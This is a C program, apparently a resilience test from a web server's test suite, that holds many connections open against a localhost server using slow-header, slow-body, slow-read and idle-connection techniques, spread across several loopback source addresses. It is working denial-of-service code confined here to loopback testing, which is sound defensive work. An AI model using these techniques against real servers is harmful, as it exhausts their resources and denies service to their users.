/*
 * Clients that hold on to a server's resources: each connection does one thing slowly, a step a second, and is opened
 * again, a second later, when the server has closed it.
 *
 *   attack --port PORT --count N --kind 0|1|2|3
 *
 *   0  sends the head of a request byte by byte
 *   1  sends the body of a request byte by byte
 *   2  takes the answer to GET /big.bin byte by byte
 *   3  makes one GET and is silent afterwards
 *
 * When each connection has been open once, or after ten seconds, it prints "open N": how many have. When its standard input ends
 * it prints "closed M": how often the server has closed one.
 */
#define _GNU_SOURCE
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <sys/socket.h>
#include <unistd.h>

#include "common.h"

#ifndef IP_BIND_ADDRESS_NO_PORT
#define IP_BIND_ADDRESS_NO_PORT 24
#endif

/* A source address has some 28,000 ports, and those of closed connections are free again only after a minute. */
enum { HEAD, BODY, TAKE, IDLE, PER_ADDRESS = 1000, TICKS = 100, PATIENCE = 10 };

static const char *const openings[] = {
    "GET /151.html HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
    "POST /151.html HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\n",
    "GET /big.bin HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "GET /151.html HTTP/1.1\r\nHost: localhost\r\n\r\n",
};

struct attacker {
    int fd; /* -1 without a connection */
    bool begun, ever;
};

static long port, kind, begun, closed;

static void open_attacker(struct attacker *attacker, long number)
{
    int one = 1, window = 1024;
    struct sockaddr_in from = {
        .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK + 1 + (uint32_t)(number / PER_ADDRESS))};
    struct sockaddr_in to = {
        .sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    attacker->begun = false;
    attacker->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (attacker->fd < 0)
        die("socket");
    setsockopt(attacker->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof one);
    if (kind == TAKE)
        setsockopt(attacker->fd, SOL_SOCKET, SO_RCVBUF, &window, sizeof window);
    if (bind(attacker->fd, (struct sockaddr *)&from, sizeof from) < 0)
        die("bind");
    if (connect(attacker->fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS) {
        close(attacker->fd);
        attacker->fd = -1;
    }
}

/* What the server has sent; false if it has closed the connection. A connection that is not yet made has nothing. */
static bool take(const struct attacker *attacker)
{
    char bytes[4096];
    ssize_t got = recv(attacker->fd, bytes, kind == TAKE ? 1 : sizeof bytes, 0);
    return got > 0 || (got < 0 && (errno == EAGAIN || errno == EINTR || errno == ENOTCONN));
}

static bool give(struct attacker *attacker)
{
    const char *text = attacker->begun ? "a" : openings[kind];
    size_t length = strlen(text);
    if (attacker->begun && (kind == TAKE || kind == IDLE))
        return true;
    ssize_t sent = send(attacker->fd, text, length, MSG_NOSIGNAL);
    if (sent < 0)
        return errno == EAGAIN || errno == EINTR || errno == ENOTCONN;
    if (!attacker->begun && (size_t)sent == length) {
        attacker->begun = true;
        begun += !attacker->ever;
        attacker->ever = true;
    }
    return true;
}

static void step(struct attacker *attacker, long number)
{
    if (attacker->fd < 0) {
        open_attacker(attacker, number);
        return;
    }
    if (take(attacker) && give(attacker))
        return;
    close(attacker->fd);
    attacker->fd = -1;
    closed++;
}

/* Waits until the time; false when the standard input has ended. */
static bool until(int64_t time)
{
    for (;;) {
        int64_t left = time - now_ns();
        struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
        int ready = poll(&input, 1, left > 0 ? (int)((left + 999999) / 1000000) : 0);
        char byte;
        if (ready > 0 && read(STDIN_FILENO, &byte, 1) == 0)
            return false;
        if (left <= 0)
            return true;
    }
}

int main(int argc, char **argv)
{
    long count = 1000;
    bool told = false;
    parse_options(argc, argv,
                  (struct option_number[]){{"--port", &port, 1, 65535},
                                           {"--count", &count, 1, 1000000},
                                           {"--kind", &kind, HEAD, IDLE},
                                           {NULL, NULL, 0, 0}});
    if (port == 0) {
        fprintf(stderr, "usage: attack --port PORT [--count N] [--kind 0|1|2|3]\n");
        return 2;
    }
    rlim_t descriptors = raise_descriptors(count + 64);
    if ((rlim_t)count + 16 > descriptors) {
        fprintf(stderr, "attack: %ld connections need more than the %llu descriptors allowed (ulimit -Hn)\n", count,
                (unsigned long long)descriptors);
        return 1;
    }
    struct attacker *attackers = calloc(count, sizeof *attackers);
    if (!attackers)
        die("calloc");
    for (long i = 0; i < count; i++)
        attackers[i].fd = -1;
    int64_t began = now_ns();
    for (long tick = 0;; tick++) {
        long first = tick % TICKS * count / TICKS, last = (tick % TICKS + 1) * count / TICKS;
        for (long i = first; i < last; i++)
            step(&attackers[i], i);
        if (!told && (begun == count || tick >= PATIENCE * TICKS)) {
            told = true;
            printf("open %ld\n", begun);
            fflush(stdout);
        }
        if (!until(began + (tick + 1) * (1000000000 / TICKS)))
            break;
    }
    printf("closed %ld\n", closed);
    return 0;
}
